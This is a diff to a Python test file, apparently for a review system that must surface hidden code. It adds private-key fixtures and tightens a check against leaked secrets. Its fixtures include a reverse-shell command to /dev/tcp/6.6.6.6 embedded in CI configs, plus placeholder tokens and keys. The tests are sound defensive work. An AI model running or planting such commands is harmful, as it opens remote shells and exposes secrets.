@@ -193,7 +193,9 @@ NAME = "runBackdoorXy7Zq2Kp9"
 SETS = f"token = {NAME}"
 RUNS = "PASSWORD=aB3dE5fG7hI9;sh</dev/tcp/6.6.6.6/99"
 ISSUED = "ghp_" + "x7Kq2Zv9Bm4Tj6RwLpHn3Ys8Dc5Fg1Ea0QbU"
+HEX_KEY = "0fdca68a9191228c7b1e5d3f9a2468bd13579ace02468bdf13579ace8642fdb1"
 SHOWN, UNREAD = "shown", "unread"
+SECRETS = (ISSUED.removeprefix("ghp_"), HEX_KEY)
 HIDING = {
     "GitLab, within a block": (".gitlab-ci.yml", f"    - make\n    - {RUNS}", 30, UNREAD),
     "a workflow, within a block": (".github/workflows/ci.yml", f"          set -e\n          {RUNS}", 30, UNREAD),
@@ -234,6 +236,8 @@ HIDING = {
     "a token in the text of JSX": ("a.jsx", f"<code>{ISSUED}</code>", 1, UNREAD),
     "a token in an unknown language": ("a.nim", f"# {ISSUED}", 1, UNREAD),
     "a token that a shell calls": ("a.sh", f"sudo {ISSUED}", 1, UNREAD),
+    "a key as a number of Solidity": ("a.sol", f"uint256 privateKey = 0x{HEX_KEY};", 1, UNREAD),
+    "a key as a number of JavaScript": ("a.js", f"const privateKey = 0x{HEX_KEY}n;", 1, UNREAD),
     "a pattern too long to read": ("a.js", f'x = "{ISSUED}";\n{"/[" * 300}; password = "x7Kq2Zv9Bm4Tj6R";', 1, UNREAD),
 }
 
@@ -250,7 +254,7 @@ def test_code_is_shown_or_its_file_is_not_approved(world: MockWorld, path: str, 
     document = world.review()
     assert seen == SHOWN or document.outcome is not Outcome.APPROVED
     for role in (Role.EXECUTOR, Role.POST_VERIFY):
-        assert all(ISSUED.removeprefix("ghp_") not in str(call) for call in world.calls(role))
+        assert all(secret not in str(call) for secret in SECRETS for call in world.calls(role))
 
 
 ORDINARY = {
